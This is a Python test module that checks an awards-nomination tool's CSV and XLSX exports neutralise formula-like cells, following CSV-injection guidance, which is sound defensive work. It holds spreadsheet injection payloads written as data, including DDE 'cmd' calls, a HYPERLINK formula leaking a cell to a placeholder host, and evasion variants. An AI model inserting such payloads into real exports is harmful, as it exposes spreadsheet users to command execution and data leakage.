"""Exports neutralise formula-like cells (OWASP's CSV-injection guidance), in CSV and XLSX.

Citations, names and comments come from a public form; each payload below would run as a
formula in Excel or LibreOffice if written as it is. Every file is read back the way a
spreadsheet would see it: openpyxl for the cell type and value, the csv module for the text.
"""

from __future__ import annotations

import csv
import io
import zipfile
from pathlib import Path
from typing import Any

import pytest
from openpyxl import load_workbook

from csx_desktop.cli.output import print_csv
from csx_desktop.domain.model import Nomination
from csx_desktop.io.exports import neutralise, write_table
from csx_desktop.io.nomination_template import write_template
from csx_desktop.operations.results import ADMINISTRATOR
from csx_desktop.operations.results import export as export_as
from csx_desktop.store import Store

# One payload per character that starts a formula, and the ways around a naive check.
PAYLOADS = {
    "equals": "=1+1",
    "dde": "=cmd|' /C calc'!A0",
    "hyperlink": '=HYPERLINK("http://example.invalid?x="&A1,"Click")',
    "plus": "+1+cmd|' /C calc'!A0",
    "minus": "-2+3+cmd|' /C calc'!A0",
    "at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "tab": "\t=1+1",
    "carriage return": "\r=1+1",
    "space before": "  =1+1",
    "full-width equals": "\uff1d1+1",
}


def _csv_rows(path: Path) -> list[list[str]]:
    with path.open(encoding="utf-8-sig", newline="") as handle:
        return list(csv.reader(handle))


@pytest.mark.parametrize("payload", PAYLOADS.values(), ids=PAYLOADS.keys())
def test_a_formula_like_cell_is_written_as_text_in_csv(tmp_path: Path, payload: str) -> None:
    path = write_table(tmp_path / "out.csv", ["Entry", "Comment"], [["Zoë", payload]], title="x")
    _header, row = _csv_rows(path)
    assert row == ["Zoë", "'" + payload]


@pytest.mark.parametrize("payload", PAYLOADS.values(), ids=PAYLOADS.keys())
def test_a_formula_like_cell_is_a_string_cell_in_xlsx(tmp_path: Path, payload: str) -> None:
    path = write_table(tmp_path / "out.xlsx", ["Entry", "Comment"], [["Zoë", payload]], title="x")
    sheet = load_workbook(path).active
    cell = sheet["B2"]
    assert cell.data_type == "s"
    # XML keeps a carriage return only when escaped; openpyxl reads back what Excel would.
    assert cell.value.replace("\n", "\r") == ("'" + payload).replace("\n", "\r")
    with zipfile.ZipFile(path) as archive:
        assert b"<f>" not in archive.read("xl/worksheets/sheet1.xml")


def test_a_formula_like_heading_is_neutralised_too(tmp_path: Path) -> None:
    # Criterion names become headings of the scoresheet export; the administrator types them.
    csv_path = write_table(tmp_path / "h.csv", ["=1+1"], [[1]], title="x")
    assert _csv_rows(csv_path)[0] == ["'=1+1"]
    sheet = load_workbook(write_table(tmp_path / "h.xlsx", ["=1+1"], [[1]], title="x")).active
    assert (sheet["A1"].value, sheet["A1"].data_type) == ("'=1+1", "s")


def test_numbers_stay_numbers(tmp_path: Path) -> None:
    row: list[Any] = [-3, 2.5, 0, "-3", "+44", "Ordinary text", "", None]
    headers = [f"c{i}" for i in range(len(row))]
    values = _csv_rows(write_table(tmp_path / "n.csv", headers, [row], title="x"))[1]
    assert values == ["-3", "2.5", "0", "-3", "+44", "Ordinary text", "", ""]
    sheet = load_workbook(write_table(tmp_path / "n.xlsx", headers, [row], title="x")).active
    cells = sheet[2]
    assert [c.value for c in cells[:6]] == [-3, 2.5, 0, "-3", "+44", "Ordinary text"]
    assert [c.data_type for c in cells[:6]] == ["n", "n", "n", "s", "s", "s"]


def test_text_that_only_contains_a_trigger_later_is_left_alone() -> None:
    assert neutralise("Owen Marsh = star") == "Owen Marsh = star"
    assert neutralise("Smith-Jones") == "Smith-Jones"
    assert neutralise("a@council.gov.uk") == "a@council.gov.uk"


def test_control_characters_that_xml_cannot_hold_do_not_crash_the_xlsx(tmp_path: Path) -> None:
    path = write_table(tmp_path / "c.xlsx", ["Entry"], [["Zoë\x00\x1b Whitfield"]], title="x")
    assert load_workbook(path).active["A2"].value == "Zoë Whitfield"


def test_scoresheet_comments_and_names_are_neutralised_end_to_end(
    store: Store, panel_ids: dict[str, int], tmp_path: Path
) -> None:
    pride = store.round.category_named("Pride of Stockton")
    assert pride.id is not None
    added = store.nominations.add(
        Nomination(category_id=pride.id, nominee="@Owen Marsh", citation="=cmd|' /C calc'!A0")
    )
    assert added.entry_id is not None
    member = panel_ids["Nora Quinn"]
    store.scores.set_comment(member, added.entry_id, '=HYPERLINK("http://x.invalid","go")')
    for suffix in (".csv", ".xlsx"):
        path = tmp_path / f"sheets{suffix}"
        export_as(store, viewer=ADMINISTRATOR, what="scoresheets", path=path)
        if suffix == ".csv":
            header, row = _csv_rows(path)
            cells = dict(zip(header, row, strict=True))
            types = None
        else:
            sheet = load_workbook(path).active
            header = [c.value for c in sheet[1]]
            cells = {h: c.value for h, c in zip(header, sheet[2], strict=True)}
            types = {h: c.data_type for h, c in zip(header, sheet[2], strict=True)}
        assert cells["Entry"] == "'@Owen Marsh"
        assert cells["Comment"] == '\'=HYPERLINK("http://x.invalid","go")'
        if types is not None:
            assert types["Entry"] == types["Comment"] == "s"
        export_as(store, viewer=ADMINISTRATOR, what="results", path=tmp_path / f"results{suffix}")
    results = _csv_rows(tmp_path / "results.csv")
    assert results[1][3] == "'@Owen Marsh"


def test_the_command_lines_csv_output_is_neutralised() -> None:
    out = io.StringIO()
    print_csv(["Entry", "Score"], [["=1+1", -2.5], ["Zoë", None]], out)
    assert list(csv.reader(io.StringIO(out.getvalue()))) == [
        ["Entry", "Score"],
        ["'=1+1", "-2.5"],
        ["Zoë", ""],
    ]


def test_the_template_writes_hostile_list_values_as_text_and_keeps_its_drop_downs(
    tmp_path: Path,
) -> None:
    path = write_template(
        tmp_path / "template.xlsx",
        categories=["=cmd|' /C calc'!A0", "Team"],
        nominating_bodies=["-Adults", "Xentrall Shared Services"],
    )
    workbook = load_workbook(path)
    lists = workbook["Lists"]
    assert (lists["A1"].value, lists["A1"].data_type) == ("'=cmd|' /C calc'!A0", "s")
    assert (lists["B1"].value, lists["B1"].data_type) == ("'-Adults", "s")
    assert lists["A2"].value == "Team"
    # The drop-down lists are the template's one formula, and still work.
    formulas = sorted(v.formula1 for v in workbook["Nominations"].data_validations.dataValidation)
    assert formulas == ["Lists!$A$1:$A$2", "Lists!$B$1:$B$2"]
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            assert all(cell.data_type != "f" for cell in row)
